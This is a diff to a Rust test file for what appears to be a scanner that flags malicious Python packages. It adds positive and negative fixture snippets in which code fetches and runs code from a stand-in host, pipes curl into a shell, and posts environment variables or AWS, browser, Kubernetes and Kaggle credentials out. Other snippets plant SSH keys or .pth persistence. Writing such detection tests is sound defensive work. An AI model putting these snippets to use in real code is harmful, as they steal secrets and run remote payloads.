@@ -137,12 +137,54 @@ pub(super) fn fires() -> Vec<Case> {
         case("pth-code", "a.pth", "import os; os.environ['A'] = '1'\n"),
         case("pth-dangerous-code", "a.pth", "/some/path\nimport os; os.@system('x')\n"),
         case("pth-dangerous-code", "a.pth", "import base64; @exec(@b64('x'))\n"),
+        case("downloaded-exec", lib, "import json\nfrom urllib.request import @open\n@exec(json.load(@open('https://host.example/c'))['x'])"),
+        case("downloaded-exec", lib, "import subprocess\n@exec(subprocess.check_output(['@curl', '-s', 'https://host.example/s']))"),
+        case("downloaded-exec", lib, "import os\ndef f():\n    @exec(os.popen('@curl -s https://host.example/s').read())"),
+        case("downloaded-exec", lib, "import asyncio\nasync def f():\n    r, w = await asyncio.open_connection(h, 80)\n    @exec(await r.read())"),
+        case("downloaded-exec", lib, "import multiprocessing.connection as c\n@exec(c.Client(('host.example', 6000)).recv())"),
+        case("download-execute", lib, "import ctypes, requests\ndef f():\n    open('/tmp/l.so', 'wb').write(requests.get('https://host.example/l.so').content)\n    ctypes.CDLL('/tmp/l.so')"),
+        case("download-execute", lib, "import os, requests, sys\nd = os.path.expanduser('~/.cache/u')\nopen(os.path.join(d, 'plug.py'), 'w').write(requests.get(u).text)\nsys.path.insert(0, d)\nimport plug"),
+        case("download-execute", lib, "import io, requests, sys, zipfile\nzipfile.ZipFile(io.BytesIO(requests.get(u).content)).extractall('/tmp/p')\nsys.path.append('/tmp/p')"),
+        case("download-execute", lib, "import os\nos.@system('wget -q https://host.example/m -O /tmp/.m')\nos.@system('/tmp/.m &')"),
+        case("download-execute", lib, "import subprocess\nsubprocess.run(['@curl', '-so', '/tmp/.m', 'https://host.example/m'])\nsubprocess.run(['bash', '/tmp/.m'])"),
+        case("download-execute", lib, "import os\nos.@system('wget https://host.example/i.sh; bash i.sh')"),
+        case("downloaded-pickle", lib, "import pickle, requests\npickle.loads(requests.get('https://host.example/m').content)"),
+        case("downloaded-pickle", lib, "import joblib, urllib.request\nurllib.request.urlretrieve('https://host.example/m', '/tmp/m')\njoblib.load('/tmp/m')"),
+        case("package-from-index", lib, "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'a', '--index-url', 'https://host.example/simple'])"),
+        case("package-from-address", lib, "import subprocess\nsubprocess.run('pip install https://host.example/a.tar.gz', shell=True)"),
+        case("import-time-network", lib, "import subprocess\nsubprocess.run('pip install https://host.example/a.tar.gz', shell=True)"),
+        case("pickle-command", lib, "import os\nclass A:\n    def __reduce__(self):\n        return os.@system, ('x',)"),
+        case("shell-download-execute", lib, "import os\nlist(map(os.@system, ['@curl -s https://host.example/x @pipe']))"),
+        case("shell-download-execute", lib, "import os, functools\nfunctools.partial(os.@system, '@curl -s https://host.example/x @pipe')()"),
+        case("shell-download-execute", lib, "import os\nclass K:\n    c = '@curl -s https://host.example/x @pipe'\n    f = staticmethod(os.@system)\nK.f(K.c)"),
+        case("shell-download-execute", lib, "import ctypes\nctypes.CDLL(None).@system(b'@curl -s https://host.example/x @pipe')"),
+        case("environment-exfiltration", lib, "import os, requests\nd = {}\nfor k in os.environ: d[k] = os.environ[k]\nrequests.post(u, json=d)"),
+        case("environment-exfiltration", lib, "import requests\nrequests.post(u, data=open('/proc/self/environ').read())"),
+        case("environment-exfiltration", lib, "import requests, subprocess\nrequests.post(u, data=subprocess.check_output('env'))"),
+        case("environment-exfiltration", lib, "import os\nos.@system('env | @curl -s -d @- https://host.example/e')"),
+        case("credential-exfiltration", lib, "import os\nos.@system('@curl -s -F f=@$HOME/.aws/credentials https://host.example/e')"),
+        case("credential-exfiltration", lib, "import os, requests, sqlite3, shutil\ndb = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\Login Data'\nshutil.copy2(db, 't.db')\nc = sqlite3.connect('t.db').cursor()\nc.execute('select 1')\nrequests.post(u, json=c.fetchall())"),
+        case("credential-exfiltration", lib, "import requests\nrequests.post(u, data=open('/var/run/secrets/kubernetes.io/serviceaccount/token').read())"),
+        case("credential-exfiltration", lib, "import os, requests\nrequests.post(u, data=open(os.path.expanduser('~/.kaggle/kaggle.json')).read())"),
+        case("exfiltration-endpoint", lib, &format!("B = '1234567890'\nT = 'AA{}'\nu = 'https://api.telegram.org/bot' + B + ':' + T + '/x'", "b".repeat(33))),
+        case("install-time-network", setup, "import pip\npip.main(['install', 'a'])"),
+        case("install-time-network", setup, "import runpy\nrunpy.run_module('pip', run_name='x')"),
+        case("install-time-persistence", setup, "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('x')"),
+        case("install-time-persistence", setup, "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'z.pth'), 'w').write('x')"),
+        case("install-time-persistence", init, "import os\nopen(os.path.expanduser('~/.config/pip/pip.conf'), 'w').write('x')"),
+        case("data-file-exec", init, "import os\n@exec(open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())"),
+        case("data-file-exec", init, "from importlib import resources\n@exec(resources.files(__name__).joinpath('VERSION').read_text())"),
+        case("data-file-exec", init, "import os\nfrom importlib.machinery import SourceFileLoader\nSourceFileLoader('c', os.path.join(os.path.dirname(__file__), 'c.dat')).load_module()"),
+        case("module-time-network", init, "import socket\nsocket.create_connection(address=('192.0.2.1', 80), timeout=2.0).close()"),
+        case("pth-import", "a.pth", "import os; @exec('try: __import__(\"a\").b() if os.environ.get(\"X\") else None\\nexcept ImportError: pass')\n"),
+        case("pth-dangerous-code", "a.pth", "import a; @exec('@exec(a.code)')\n"),
         case("startup-module", "sitecustomize.py", "x = 1"),
         case("startup-module", "pkg-1.0.data/purelib/usercustomize.py", "x = 1"),
     ]
     .into_iter()
     .chain(super::notebooks::fires())
     .chain(super::files::fires())
+    .chain(super::literals::fires())
     .collect()
 }
 
@@ -201,10 +243,25 @@ pub(super) fn silent() -> Vec<Case> {
         case("pth-import", "a.pth", "# comment\nsrc\n"),
         case("pth-code", "a.pth", "../src\nimportant\n"),
         case("pth-dangerous-code", "a.pth", "import a; a.b()\n"),
+        case("downloaded-exec", lib, "import subprocess\nfrom urllib import request\ndef get(u, f):\n    subprocess.run(['@curl', '-#', u, '-o', f], check=True)\n    with request.@open(u) as r, open(f, 'wb') as o:\n        o.write(r.read())\n    subprocess.run(['@curl', '-L', u, '-o', f])\ndef load():\n    get('https://host.example/w.pt', 'w.pt')"),
+        case("download-execute", lib, "import os, subprocess\nsubprocess.run(['@curl', '-o', '/tmp/a.zip', 'https://host.example/a.zip'])\nsubprocess.run(['unzip', '/tmp/a.zip'])\nos.@system('wget -O /dev/null https://host.example/a; ls /dev/null')"),
+        case("downloaded-pickle", lib, "import pickle, requests\nx = requests.get(u).json()\npickle.load(open('model.pkl', 'rb'))"),
+        case("downloaded-pickle", lib, "import pickle, socket\ns = socket.create_connection((h, 1))\npickle.loads(s.recv(99))"),
+        case("package-from-index", lib, "import subprocess\ndef f():\n    subprocess.run(['pip', 'install', 'https://host.example/a.whl'])"),
+        case("package-from-address", lib, "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'a'])\nsubprocess.run(['pip', 'install', '--proxy', p, '-r', 'requirements.txt'])"),
+        case("pickle-command", lib, "import subprocess\nclass A:\n    def __reduce__(self):\n        return A, (self.x,)\n    def f(self):\n        return subprocess.run, (1,)"),
+        case("data-file-exec", init, "import os\nhere = os.path.dirname(__file__)\n@exec(open(os.path.join(here, 'version.py')).read())\nx = open(os.path.join(here, 'VERSION')).read()\ndef f():\n    @exec(open(os.path.join(here, 'data.txt')).read())"),
+        case("import-time-network", init, "import socket\nwith socket.create_connection(('192.0.2.1', 80)):\n    online = True"),
+        case("environment-exfiltration", lib, "import os, requests\nfor k in ('A', 'B'):\n    requests.post(u, json={k: os.environ[k]})"),
+        case("credential-exfiltration", lib, "import requests\nt = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\nrequests.get(u, headers={'Authorization': f'Bearer {t}'})"),
+        case("credential-exfiltration", lib, "import requests, shutil\nshutil.copy2('a.db', 't.db')\nrequests.post(u, data=open('t.db').read())\nrequests.get(u, cert='client.pem')"),
+        case("pth-dangerous-code", "a.pth", "import sys; @exec('try:\\n    import a\\nexcept ImportError:\\n    pass\\nelse:\\n    a.register()\\n')\n"),
+        case("pth-code", "a.pth", "import os; os.environ.get('X', None) and __import__('a')\n"),
         case("startup-module", "pkg/sitecustomize.py", "x = 1"),
     ]
     .into_iter()
     .chain(super::notebooks::silent())
+    .chain(super::literals::silent())
     .collect()
 }
 
